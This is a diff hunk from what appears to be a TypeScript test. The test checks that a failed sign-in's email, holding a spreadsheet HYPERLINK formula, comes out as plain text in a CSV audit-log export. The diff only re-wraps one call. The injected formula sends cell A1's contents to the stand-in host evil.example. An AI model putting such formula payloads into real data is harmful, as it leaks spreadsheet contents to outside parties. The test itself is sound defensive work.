@@ -9,11 +9,13 @@ import { makeUser, sessionCookie } from "../testing/users.ts";
 it("exports a failed sign-in's formula email as text", async () => {
   const marker = randomBytes(6).toString("hex");
   const email = `=HYPERLINK("http://evil.example/?${marker}"&A1,"click")`;
-  await handleAuthRequest(new Request("http://localhost/api/auth/sign-in/email", {
-    method: "POST",
-    headers: { "content-type": "application/json", origin: "http://localhost" },
-    body: JSON.stringify({ email, password: "not the password" }),
-  }));
+  await handleAuthRequest(
+    new Request("http://localhost/api/auth/sign-in/email", {
+      method: "POST",
+      headers: { "content-type": "application/json", origin: "http://localhost" },
+      body: JSON.stringify({ email, password: "not the password" }),
+    }),
+  );
   const viewer = await makeUser("viewer");
   const url = `http://localhost/api/v1/audit?format=csv&action=auth.sign-in&actor=${marker}`;
   const response = await auditRoute.GET(new Request(url, { headers: { cookie: await sessionCookie(viewer.email) } }));
